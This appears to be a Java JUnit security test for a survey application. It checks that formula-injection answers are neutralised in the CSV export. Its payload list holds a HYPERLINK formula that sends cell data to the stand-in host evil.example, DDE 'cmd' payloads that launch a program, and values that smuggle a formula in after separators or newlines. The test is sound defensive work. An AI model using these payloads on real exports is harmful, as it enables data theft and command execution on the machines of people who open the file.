package io.redeploy.survey.attack;

import static org.assertj.core.api.Assertions.assertThat;

import io.redeploy.survey.support.PublishedSurvey;
import io.redeploy.survey.support.TestApp;
import io.redeploy.survey.support.WebClient;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Respondents answer with spreadsheet formulas; the surveyor downloads the CSV and opens it in a spreadsheet that
 * splits on commas or, in many European locales, on semicolons, and that may or may not honour the quotes. No
 * reading of the file may produce a cell that the spreadsheet would evaluate.
 */
class CsvFormulaInjectionAttackTest {
    private static final String TRIGGERS = "=+-@\t\r";

    static final List<String> PAYLOADS = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click for results\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "harmless;=1+1",
            "harmless; +1+1",
            "first,=1+1",
            "quote\";=1+1",
            "line\n=1+1",
            "cr\r@SUM(1)");

    /** A parser for one reading of the file: RFC 4180 quotes honoured or not, with the given separator. */
    static List<String> cells(String csv, char separator, boolean honourQuotes) {
        List<String> cells = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (honourQuotes && c == '"') {
                if (quoted && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else {
                    quoted = !quoted;
                }
            } else if (!quoted && (c == separator || c == '\n' || c == '\r')) {
                cells.add(cell.toString());
                cell.setLength(0);
            } else {
                cell.append(c);
            }
        }
        cells.add(cell.toString());
        return cells;
    }

    /** What a spreadsheet looks at: the cell without surrounding blanks and stray quote characters. */
    static String visible(String cell) {
        String s = cell.strip();
        while (s.startsWith("\"")) {
            s = s.substring(1).strip();
        }
        return s;
    }

    @Test
    void respondentAnswersNeverBecomeFormulasInTheExport() {
        try (TestApp app = TestApp.start(Map.of("RESPONSES_PER_HOUR_PER_ADDRESS", "1000"))) {
            PublishedSurvey survey = PublishedSurvey.create(
                    app,
                    "Formulas",
                    "[{\"text\":\"Comment\",\"type\":\"text\"},"
                            + "{\"text\":\"Pick\",\"type\":\"multiple_choice\",\"options\":[\"Plain\",\"=1+1\"]}]");
            long comment = survey.questions()[0];
            for (int i = 0; i < PAYLOADS.size(); i++) {
                WebClient respondent = new WebClient(app.baseUrl()).withHeader("X-Forwarded-For", "192.0.2." + (i + 1));
                respondent.get(survey.publicPath());
                assertThat(respondent
                                .postForm(survey.publicPath(), "q" + comment, PAYLOADS.get(i))
                                .statusCode())
                        .as("answer %s", PAYLOADS.get(i))
                        .isEqualTo(303);
            }
            String csv = survey.csv();

            List<String> dangerous = new ArrayList<>();
            for (char separator : new char[] {',', ';'}) {
                for (boolean honourQuotes : new boolean[] {true, false}) {
                    for (String cell : cells(csv, separator, honourQuotes)) {
                        String v = visible(cell);
                        if (!v.isEmpty() && TRIGGERS.indexOf(v.charAt(0)) >= 0) {
                            dangerous.add("sep=" + separator + " quotes=" + honourQuotes + ": " + cell);
                        }
                    }
                }
            }
            assertThat(dangerous)
                    .as("cells a spreadsheet would evaluate, in:%n%s", csv)
                    .isEmpty();

            // Every cell is quoted, and the answers are all still there for a human to read.
            assertThat(csv).endsWith("\"\r\n");
            for (String line : csv.substring(0, csv.length() - 2).split("\r\n(?=\")")) {
                assertThat(line).startsWith("\"").endsWith("\"");
            }
            assertThat(csv).contains("'=HYPERLINK(\"\"http://evil.example/?\"\"&A1");
        }
    }
}
